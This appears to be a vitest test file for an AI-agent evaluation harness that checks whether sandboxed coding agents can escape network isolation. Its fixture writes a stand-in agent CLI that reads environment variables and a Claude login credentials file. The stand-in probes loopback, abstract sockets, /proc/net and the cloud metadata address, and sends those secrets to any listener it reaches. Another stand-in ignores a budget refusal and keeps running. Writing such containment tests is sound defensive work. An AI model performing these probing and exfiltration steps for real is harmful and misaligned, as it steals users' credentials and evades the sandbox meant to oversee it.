// A stand-in agent that tries every way out of its sandbox it can think of, driven live through the
// backend. With the host's network (what every sandboxed agent had before the bridge, and what
// `--agent-network host` still gives) it reaches the host's loopback listeners, its abstract unix sockets,
// reads their names in /proc/net, and sends the API key it was given to a listener. Behind the bridge
// the only door is the relay to the model bridge, and the key it holds is a dummy.
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import type { Server } from "node:net";
import { createServer } from "node:net";
import type { AddressInfo } from "node:net";
import { networkInterfaces, tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { findSocat } from "@eval/model-bridge";
import { sandboxSupport } from "@eval/sandbox";
import { CliSubscriptionBackend } from "./backend.ts";
import type { CliSubscriptionBackendOptions } from "./backend.ts";
import { writeReport } from "./compliance.test-helpers.ts";
import { readStream } from "./fake-cli.test-helpers.ts";
import { startAnthropicUpstream } from "./bridge.test-helpers.ts";
import type { TestUpstream } from "./bridge.test-helpers.ts";

const sandboxed = sandboxSupport().available;
const REAL_KEY = "sk-ant-real-key-never-in-the-sandbox-0123456789";
const ABSTRACT = `evalgate-attack-${process.pid}`;
let root: string;
let hostHome: string;
let binaryPath: string;
let complianceDir: string;
let listener: Server;
let abstract: Server;
let exterior: Server | null = null;
let upstream: TestUpstream;
const heard: string[] = [];
const externalAddress = Object.values(networkInterfaces())
  .flat()
  .find((entry) => entry !== undefined && entry.family === "IPv4" && !entry.internal)?.address;

function listen(server: Server, ...args: unknown[]): Promise<void> {
  return new Promise((resolve) => (server.listen as (...a: unknown[]) => void)(...args, () => resolve()));
}

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), "evalgate-agent-network-"));
  hostHome = join(root, "home");
  mkdirSync(join(hostHome, ".claude"), { recursive: true });
  writeFileSync(join(hostHome, ".claude", ".credentials.json"), "claude login token");
  const hear = (socket: import("node:net").Socket) => socket.on("data", (chunk) => heard.push(chunk.toString("utf8")));
  listener = createServer(hear);
  await listen(listener, 0, "127.0.0.1");
  abstract = createServer(hear);
  await listen(abstract, `\0${ABSTRACT}`);
  if (externalAddress !== undefined) {
    exterior = createServer(hear);
    await listen(exterior, 0, externalAddress);
  }
  upstream = await startAnthropicUpstream();
  const port = (listener.address() as AddressInfo).port;
  const exteriorPort = exterior === null ? 0 : (exterior.address() as AddressInfo).port;
  const packageDir = join(root, "prefix", "node_modules", "stand-in-agent");
  mkdirSync(packageDir, { recursive: true });
  mkdirSync(join(root, "prefix", "bin"));
  writeFileSync(
    join(packageDir, "cli.mjs"),
    `#!${process.execPath}
import { readFileSync, writeFileSync } from "node:fs";
import { connect } from "node:net";
if (process.argv.includes("--version")) { console.log("2.1.330 (Claude Code)"); process.exit(0); }
const secrets = JSON.stringify({ env: process.env, login: (() => { try { return readFileSync(process.env.HOME + "/.claude/.credentials.json", "utf8") } catch (e) { return e.code } })() });
const tryConnect = (target) => new Promise((resolve) => {
  const socket = connect(target);
  const timer = setTimeout(() => { socket.destroy(); resolve("timeout"); }, 3000);
  socket.on("connect", () => { socket.end(secrets); clearTimeout(timer); resolve("connected"); });
  socket.on("error", (error) => { clearTimeout(timer); resolve(error.code); });
});
const read = (path) => { try { return readFileSync(path, "utf8") } catch (error) { return error.code } };
const portHex = (${port}).toString(16).toUpperCase().padStart(4, "0");
const found = {
  loopback: await tryConnect({ host: "127.0.0.1", port: ${port} }),
  abstract: await tryConnect({ path: "\\0${ABSTRACT}" }),
  exterior: ${exteriorPort} ? await tryConnect({ host: ${JSON.stringify(externalAddress ?? "")}, port: ${exteriorPort} }) : "no exterior interface",
  metadata: await tryConnect({ host: "169.254.169.254", port: 80 }),
  procTcpShowsListener: read("/proc/net/tcp").includes(":" + portHex),
  procUnixShowsAbstract: read("/proc/net/unix").includes("${ABSTRACT}"),
  relayProcess: read("/proc/" + process.ppid + "/comm").trim(),
  env: process.env,
};
const base = process.env.ANTHROPIC_BASE_URL;
if (base !== undefined) {
  try {
    const response = await fetch(base + "/v1/messages", { method: "POST", headers: { "x-api-key": process.env.ANTHROPIC_API_KEY, "content-type": "application/json" }, body: JSON.stringify({ model: "claude-sonnet-4-5", stream: true, messages: [{ role: "user", content: "hi" }] }) });
    found.relay = response.status;
  } catch (error) { found.relay = String(error.cause?.code ?? error.message); }
  // A budget test: a second call, and then an agent that ignores the refusal and keeps going.
  if (process.argv.join(" ").includes("SECOND CALL")) {
    const response = await fetch(base + "/v1/messages", { method: "POST", headers: { "x-api-key": process.env.ANTHROPIC_API_KEY, "content-type": "application/json" }, body: JSON.stringify({ model: "claude-sonnet-4-5", stream: true, messages: [] }) });
    found.second = { status: response.status, body: await response.text() };
    writeFileSync("found.json", JSON.stringify(found));
    await new Promise((resolve) => setTimeout(resolve, 30_000));
  }
}
writeFileSync("found.json", JSON.stringify(found));
process.stdout.write(${JSON.stringify(readStream("claude-success.stdout.jsonl"))});
`,
  );
  chmodSync(join(packageDir, "cli.mjs"), 0o755);
  binaryPath = join(root, "prefix", "bin", "claude");
  symlinkSync(join(packageDir, "cli.mjs"), binaryPath);
  complianceDir = join(root, "state", "compliance");
  writeReport(complianceDir, { adapter: "claude-code", binaryPath, version: "2.1.330" });
  // The runs behind the bridge with --model-upstream: a report earned against that endpoint.
  writeReport(complianceDir, {
    adapter: "claude-code",
    binaryPath,
    version: "2.1.330",
    origin: new URL(upstream.url).origin,
    name: "upstream.jsonl",
  });
});

afterAll(async () => {
  for (const server of [listener, abstract, exterior]) server?.close();
  await upstream.close();
  rmSync(root, { recursive: true, force: true });
});

async function attack(overrides: Partial<CliSubscriptionBackendOptions>, prompt = "Fix the advisory.") {
  heard.length = 0;
  const backend = new CliSubscriptionBackend({
    adapter: "claude-code",
    allow_cli_subscription: true,
    acknowledge_unsandboxed_cli: false,
    complianceDir,
    binaryPath,
    env: { PATH: process.env.PATH, HOME: hostHome, ANTHROPIC_API_KEY: REAL_KEY },
    ...overrides,
  });
  const workspace = mkdtempSync(join(root, "ws-"));
  const result = await backend.run({
    prompt,
    workspace: { root: workspace, editable: ["."], readonly: [] },
    timeoutMs: 60_000,
  });
  const found = JSON.parse(readFileSync(join(workspace, "found.json"), "utf8")) as Record<string, unknown> & {
    env: Record<string, string>;
  };
  return { result, found, heard: heard.join("") };
}

describe.runIf(sandboxed)("an agent trying to leave its sandbox", () => {
  it("with the host's network reaches host listeners, abstract sockets and /proc/net, and sends its key away (the attack is real)", async () => {
    const { result, found, heard } = await attack({ agent_network: "host", acknowledge_unsandboxed_cli: true });
    expect(found.loopback).toBe("connected");
    expect(found.abstract).toBe("connected");
    expect(found.procTcpShowsListener).toBe(true);
    expect(found.procUnixShowsAbstract).toBe(true);
    if (exterior !== null) expect(found.exterior).toBe("connected");
    expect(heard).toContain(REAL_KEY);
    expect(heard).toContain("claude login token");
    expect(result.agent_network).toMatchObject({ agent_network: "host", key_withheld: false });
  }, 90_000);

  it("behind the bridge reaches nothing but the relay, and the key it holds is a dummy", async () => {
    const { result, found, heard } = await attack({ model_upstream: upstream.url });
    expect(found.loopback).toBe("ECONNREFUSED");
    expect(found.abstract).toBe("ECONNREFUSED");
    expect(found.exterior).toMatch(/^(ENETUNREACH|no exterior interface)$/);
    expect(found.metadata).toBe("ENETUNREACH");
    expect(found.procTcpShowsListener).toBe(false);
    expect(found.procUnixShowsAbstract).toBe(false);
    expect(heard).toBe("");
    // The one door works: the call went through the relay and the bridge to the upstream, with the real key.
    expect(found.relay).toBe(200);
    expect(upstream.received.at(-1)?.headers["x-api-key"]).toBe(REAL_KEY);
    // The key is nowhere the agent could read or send it: not its environment, its files, its login files, the recorded traffic.
    expect(JSON.stringify(found)).not.toContain(REAL_KEY);
    expect(found.env.ANTHROPIC_API_KEY).toMatch(/^evalgate-case-/);
    expect(JSON.stringify(found)).not.toContain("claude login token");
    expect(JSON.stringify(result.exchanges)).not.toContain(REAL_KEY);
    expect(JSON.stringify(result.exchanges)).not.toContain(found.env.ANTHROPIC_API_KEY);
    expect(result.stdout + result.stderr).not.toContain(REAL_KEY);
    expect(result.agent_network).toMatchObject({
      agent_network: "bridge",
      key_withheld: true,
      upstream_host: new URL(upstream.url).host,
      metered: { requests: 1, input_tokens: 100, output_tokens: 7 },
    });
    expect(result.classification.trial_class).toBe("parse_success");
  }, 90_000);

  it.runIf(findSocat() !== null)(
    "behind the bridge the relay is socat when it is installed",
    async () => {
      const { found } = await attack({ model_upstream: upstream.url });
      expect(found.relayProcess).toBe("sh");
      expect(found.relay).toBe(200);
    },
    90_000,
  );

  it("the Node relay (where socat is not installed) is the same door: the first call gets through, nothing else does", async () => {
    const { result, found, heard } = await attack({ model_upstream: upstream.url, relay: "node" });
    expect(found.relayProcess).toMatch(/^(node|MainThread)$/);
    expect(found.relay).toBe(200);
    expect(found.loopback).toBe("ECONNREFUSED");
    expect(found.abstract).toBe("ECONNREFUSED");
    expect(found.metadata).toBe("ENETUNREACH");
    expect(heard).toBe("");
    expect(result.agent_network).toMatchObject({
      agent_network: "bridge",
      key_withheld: true,
      metered: { requests: 1, output_tokens: 7 },
    });
  }, 90_000);

  it("a new dummy key per trial (the bridge refuses any other, see the bridge tests)", async () => {
    const first = await attack({ model_upstream: upstream.url });
    const second = await attack({ model_upstream: upstream.url });
    expect(first.found.env.ANTHROPIC_API_KEY).not.toBe(second.found.env.ANTHROPIC_API_KEY);
  }, 120_000);

  it("a budget of one request: the second gets the protocol's 400 and the agent, which ignores it, is stopped within 1 s", async () => {
    const { result, found } = await attack(
      { model_upstream: upstream.url, case_budget: { maxRequests: 1 } },
      "SECOND CALL",
    );
    const ended = Date.now();
    expect(found.relay).toBe(200);
    expect(found.second).toMatchObject({ status: 400 });
    expect(JSON.parse((found.second as { body: string }).body)).toMatchObject({
      type: "error",
      error: { type: "invalid_request_error" },
    });
    const stop = result.agent_network.budget_stop!;
    expect(stop).toMatchObject({ refused_request: 2, reason: "the case's budget of 1 model request(s) is spent" });
    // Generous for a loaded machine: the harness stops it 0.25 s after the refusal; the rest is process teardown.
    expect(ended - stop.refused_at).toBeLessThan(3_000);
    expect(result.backend_metadata.duration_ms).toBeLessThan(15_000);
    expect(result.agent_network.metered).toMatchObject({ requests: 1, output_tokens: 7 });
  }, 90_000);

  it("refuses the bridge without a key for the provider's API, naming the variable", () => {
    expect(
      () =>
        new CliSubscriptionBackend({
          adapter: "claude-code",
          allow_cli_subscription: true,
          acknowledge_unsandboxed_cli: false,
          complianceDir,
          binaryPath,
          env: { PATH: process.env.PATH },
        }),
    ).toThrow(/ANTHROPIC_API_KEY/);
  });

  it("the host's network needs both opt-ins; the bridge needs the sandbox", () => {
    const base = {
      adapter: "claude-code" as const,
      allow_cli_subscription: true,
      complianceDir,
      binaryPath,
      env: { PATH: process.env.PATH, ANTHROPIC_API_KEY: REAL_KEY },
    };
    expect(
      () => new CliSubscriptionBackend({ ...base, acknowledge_unsandboxed_cli: false, agent_network: "host" }),
    ).toThrow(/acknowledge_unsandboxed_cli/);
    expect(
      () =>
        new CliSubscriptionBackend({
          ...base,
          acknowledge_unsandboxed_cli: true,
          sandbox: "none",
          agent_network: "bridge",
        }),
    ).toThrow(/needs the sandbox/);
    expect(new CliSubscriptionBackend({ ...base, acknowledge_unsandboxed_cli: false }).agentNetwork).toBe("bridge");
  });
});
